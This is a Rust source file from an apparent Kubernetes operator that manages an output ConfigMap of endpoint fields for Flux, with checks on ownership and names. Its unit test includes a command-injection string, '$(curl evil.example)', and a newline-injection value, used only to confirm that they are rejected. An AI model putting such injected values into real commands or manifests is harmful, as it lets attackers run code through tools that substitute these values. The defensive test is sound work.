//! The output ConfigMap: the fields of an endpoint that other tools read.
//!
//! It exists only while it has content, because a tool that finds an empty value substitutes it. The object owns it, so that it
//! is deleted with the object. Its name is recorded on the object before it is created, so that it is also deleted when the spec
//! names another one. A ConfigMap that the operator did not create is never changed, whichever object names it.

use std::collections::BTreeMap;

use domain::conditions::Report;
use domain::endpoint::{EndpointStatus, is_service_name};
use domain::message::Message;
use k8s_openapi::api::core::v1;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta;
use kube::{Resource, ResourceExt};

use crate::serverless::crd::{self, ServerlessPrivateEndpoint};

use super::api_server::{ApiError, ApiServer};
use super::convert::Identity;
use super::decode::ConfigMap;

/// The label that lets Flux react to a change immediately.
const FLUX_WATCH: (&str, &str) = ("reconcile.fluxcd.io/watch", "Enabled");

/// The key of the private SRV address.
const SRV_ADDRESS: &str = "privateSrvAddress";

/// Why the ConfigMap does not have the content that it should.
pub(super) type Problem = Message;

/// Returns `true` if the object declares an output ConfigMap, or has one.
pub(super) fn is_concerned(object: &ServerlessPrivateEndpoint) -> bool {
    object.spec.output_config_map.is_some() || noted(object).is_some()
}

/// Returns the entries of the ConfigMap; none if it should not exist. The keys are names that Flux can substitute.
pub(super) fn content(report: &Report, srv_address: Option<String>) -> BTreeMap<String, String> {
    let Some(endpoint) = report.endpoint.as_ref().filter(|_| !report.lost) else { return BTreeMap::new() };
    // A name that AWS cannot have assigned is left out, because other tools put these values into commands and manifests.
    let service = endpoint.service_name.clone().filter(|name| is_service_name(name));
    let Some(service) = service.filter(|_| endpoint.status != EndpointStatus::Deleting) else {
        return BTreeMap::new();
    };
    let entries = [
        ("id", Some(endpoint.id.to_string())),
        ("region", region(&service)),
        ("endpointServiceName", Some(service)),
        ("cloudProviderEndpointId", endpoint.vpc_endpoint_id.clone()),
        (SRV_ADDRESS, srv_address),
    ];
    entries.into_iter().filter_map(|(key, value)| Some((key.to_owned(), value?))).collect()
}

/// Returns the AWS region in `com.amazonaws.vpce.<region>.vpce-svc-…`.
fn region(service: &str) -> Option<String> {
    let region = service.strip_prefix("com.amazonaws.vpce.")?.split('.').next()?;
    (!region.is_empty()).then(|| region.to_owned())
}

/// Returns the recorded name of the object's ConfigMap, if it is a valid name: any user may write the annotation.
pub(super) fn noted(object: &ServerlessPrivateEndpoint) -> Option<String> {
    let name = object.annotations().get(crd::OUTPUT_CONFIG_MAP)?;
    let is_inner = |c: char| matches!(c, 'a'..='z' | '0'..='9' | '-' | '.');
    let is_name = name.chars().all(is_inner) && !name.starts_with(['-', '.']) && !name.ends_with(['-', '.']);
    (is_name && !name.is_empty()).then(|| name.clone())
}

/// Deletes the ConfigMap `name`, if the object owns it.
///
/// # Errors
/// A message for the user, if the API server rejects a call or cannot be reached.
pub(super) async fn remove(cluster: &ApiServer, identity: &Identity, name: &str) -> Result<(), Problem> {
    let found = read(cluster, identity, name).await?.filter(|found| is_ours(found, identity));
    match found {
        Some(found) => delete(cluster, identity, name, &found).await,
        None => Ok(()),
    }
}

async fn delete(
    cluster: &ApiServer,
    identity: &Identity,
    name: &str,
    found: &ConfigMap,
) -> Result<(), Problem> {
    match cluster.delete_config_map(&identity.namespace, name, found).await {
        Ok(()) | Err(ApiError::NotFound) => Ok(()),
        Err(error) => Err(problem(name, "delete", &error)),
    }
}

/// Reads the ConfigMap; `None` if it does not exist.
///
/// # Errors
/// A message for the user, if the API server rejects a call or cannot be reached.
pub(super) async fn read(
    cluster: &ApiServer,
    identity: &Identity,
    name: &str,
) -> Result<Option<ConfigMap>, Problem> {
    match cluster.config_map(&identity.namespace, name).await {
        Ok(found) => Ok(Some(found)),
        Err(ApiError::NotFound) => Ok(None),
        Err(error) => Err(problem(name, "get", &error)),
    }
}

/// Returns the private SRV address that the ConfigMap already holds for this VPC endpoint.
pub(super) fn noted_address(found: Option<&ConfigMap>, vpc_endpoint: &str) -> Option<String> {
    let data = &found?.data;
    let same = data.get("cloudProviderEndpointId").is_some_and(|id| id == vpc_endpoint);
    data.get(SRV_ADDRESS).filter(|_| same).cloned()
}

/// Gives the ConfigMap `name`, which was just `found`, this `content`, or deletes it if there is none. Its name must be recorded
/// already.
///
/// # Errors
/// A message for the user, if the API server rejects a call or cannot be reached.
pub(super) async fn keep(
    cluster: &ApiServer,
    identity: &Identity,
    object: &ServerlessPrivateEndpoint,
    name: &str,
    found: Option<ConfigMap>,
    content: BTreeMap<String, String>,
) -> Result<(), Problem> {
    let namespace = &identity.namespace;
    if found.as_ref().is_some_and(|found| !is_ours(found, identity)) {
        return if content.is_empty() {
            Ok(())
        } else {
            Err(format!(
                "ConfigMap {name} exists and was not made for this object; delete it or name another in spec.outputConfigMap"
            )
            .into())
        };
    }
    let result = match found {
        None if content.is_empty() => Ok(()),
        None => {
            let new = new(object, name, content);
            cluster.create_config_map(namespace, &new).await.map_err(|error| ("create", error))
        }
        Some(found) if content.is_empty() => return delete(cluster, identity, name, &found).await,
        Some(found) if found.data == content => Ok(()),
        Some(found) => {
            let filled = cluster.fill_config_map(namespace, name, &found, &content).await;
            filled.map_err(|error| ("patch", error))
        }
    };
    result.map_err(|(verb, error)| problem(name, verb, &error))
}

fn problem(name: &str, verb: &str, error: &ApiError) -> Problem {
    match error {
        ApiError::Forbidden(_) => format!(
            "the operator may not {verb} ConfigMap {name}; grant it (chart value integrations.outputConfigMap.enabled)"
        )
        .into(),
        error => Message::from(format!("failed to {verb} ConfigMap {name}: ")).varying(&error.to_string()),
    }
}

fn is_ours(map: &ConfigMap, identity: &Identity) -> bool {
    map.controller.as_deref() == Some(identity.uid.as_str())
}

fn new(object: &ServerlessPrivateEndpoint, name: &str, content: BTreeMap<String, String>) -> v1::ConfigMap {
    let (label, value) = FLUX_WATCH;
    v1::ConfigMap {
        metadata: ObjectMeta {
            name: Some(name.to_owned()),
            labels: Some(BTreeMap::from([(label.to_owned(), value.to_owned())])),
            owner_references: object.controller_owner_ref(&()).map(|owner| vec![owner]),
            ..ObjectMeta::default()
        },
        data: Some(content),
        ..v1::ConfigMap::default()
    }
}

#[cfg(test)]
mod tests {
    use domain::endpoint::Endpoint;

    use super::*;

    #[test]
    fn a_service_name_that_aws_could_not_have_made_stands_in_no_output() {
        let holds = |service: &str| {
            let endpoint = Endpoint {
                id: "5f7cac1adf5d6c6306f4b283".parse().unwrap(),
                status: EndpointStatus::Available,
                comment: String::new(),
                service_name: Some(service.to_owned()),
                vpc_endpoint_id: None,
                error_message: None,
            };
            let report = Report {
                endpoint: Some(endpoint),
                lost: false,
                unchanged: false,
                shared: false,
                conditions: Vec::new(),
                working: None,
                after: None,
            };
            content(&report, None)
        };
        assert_eq!(holds("com.amazonaws.vpce.us-east-1.vpce-svc-1")["region"], "us-east-1");
        for bad in ["", "$(curl evil.example)", "com.amazonaws.vpce.us-east-1.vpce-svc-1\nid: other"] {
            assert_eq!(holds(bad), BTreeMap::new(), "{bad:?}");
        }
    }
}
